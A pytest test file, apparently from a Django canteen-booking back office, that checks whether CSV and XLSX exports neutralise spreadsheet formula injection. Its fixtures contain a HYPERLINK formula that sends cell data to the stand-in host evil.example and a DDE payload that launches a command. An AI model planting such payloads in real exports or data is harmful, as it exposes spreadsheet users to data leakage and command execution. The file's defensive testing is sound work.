"""Exports never hand a spreadsheet a formula: a text cell starting with =, +, -, @, a tab
or a carriage return is written with a leading single quote in every CSV export, and as a
plain string (never a formula) in the XLSX export."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from portail.backoffice.exports import csv_bytes, neutralise
from portail.billing.models import CounterPayment
from portail.reservations.models import Basket, BasketStatus
from tests.factories import paid_booking
from tests.world.staff import client_for
from tests.world.town import build_town

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.fixture
def town():
    with translation.override("en"):
        town = build_town()
    town.site.name = "@SUM(1+1)"
    town.site.save()
    town.canteen.name = FORMULA
    town.canteen.save()
    town.emy.special_diet = "-2+3"
    town.emy.save()
    paid_booking(town.emy, town.today)
    return town


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-sans porc", "'-sans porc"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Emy", "Emy"),
        ("", ""),
        (-370, -370),  # numbers stay numbers
        (12, 12),
    ],
)
def test_the_one_helper(value, written):
    assert neutralise(value) == written


def test_csv_bytes_neutralises_every_text_cell():
    rows = read_csv(csv_bytes([["=1+1", "ok", 3, None]]))
    assert rows == [["'=1+1", "ok", "3", ""]]


def test_the_head_counts_csv(town):
    response = client_for(town.gestionnaire, "en").get(
        reverse("backoffice:headcounts_csv"), {"date": town.today.date.isoformat()}
    )
    assert response.status_code == 200
    cells = [cell for row in read_csv(response.content) for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert "'-2+3 ×1" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_the_head_counts_xlsx_has_no_formula(town):
    response = client_for(town.gestionnaire, "en").get(
        reverse("backoffice:headcounts_xlsx"), {"date": town.today.date.isoformat()}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert FORMULA in values or "'" + FORMULA in values


def test_the_regie_csv(town):
    town.durand.name = "=cmd|' /C calc'!A0"
    town.durand.save()
    basket = Basket.objects.create(
        household=town.durand, reference="PF2026000009", status=BasketStatus.PAID
    )
    noon = timezone.make_aware(datetime.datetime.combine(town.today.date, datetime.time(12)))
    CounterPayment.objects.create(
        household=town.durand,
        basket=basket,
        means="cheque",
        reference="+123456",
        amount_cents=370,
        reservations_cents=370,
        cancellations_cents=0,
        credit_applied_cents=0,
        actor=town.gestionnaire,
        actor_label=town.gestionnaire.email,
        created_at=noon,
    )
    day = town.today.date.isoformat()
    response = client_for(town.gestionnaire, "en").get(
        reverse("backoffice:payments_export"), {"export-start": day, "export-end": day}
    )
    assert response.status_code == 200
    cells = [cell for row in read_csv(response.content) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+123456" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
